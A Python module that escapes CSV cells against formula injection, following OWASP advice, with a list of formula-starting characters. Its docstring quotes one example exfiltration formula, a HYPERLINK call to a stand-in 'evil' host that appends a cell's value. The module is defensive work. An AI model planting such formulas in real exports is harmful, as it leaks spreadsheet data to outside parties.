"""CSV cells a spreadsheet shows as text, never runs (CSV or formula injection).

Institution, system and vendor names are typed by submitters. A spreadsheet opening the download
would run a cell such as `=HYPERLINK("http://evil/?"&A1, "click")`, and `+`, `-`, `@`, a tab or a
carriage return start a formula too in one program or another. Following OWASP's advice on CSV
injection, such a text cell gets a leading single quote (shown as text, the quote hidden), and every
text cell is quoted, so a separator inside it cannot start a new cell either.

Numbers stay numbers: a plain number cannot run anything, whether it came as int, float or text
("-1.5"), so sorting and sums in the spreadsheet keep working.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

# Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula or command,
# also in their full-width forms, which some spreadsheets fold to the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may read it: numbers as they are, text that would start a formula
    (after any leading spaces, which spreadsheets skip) with a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, (int, float, str)):
        value = str(value)
    if not isinstance(value, str):
        return value
    starts = (value[:1], value.lstrip(" ")[:1])
    if not any(start in FORMULA_STARTS for start in starts) or _PLAIN_NUMBER.fullmatch(value):
        return value
    return f"'{value}"


def csv_write(
    stream: TextIO, fields: Sequence[str], rows: Iterable[Mapping[str, Any]], *, header: bool = True
) -> None:
    """The header (unless left out) and the rows written to `stream`, every cell made safe; text
    quoted, numbers not."""
    writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    if header:
        writer.writerow(fields)
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) for name in fields])


def csv_text(fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """The header and the rows as one text."""
    buffer = io.StringIO()
    csv_write(buffer, fields, rows)
    return buffer.getvalue()
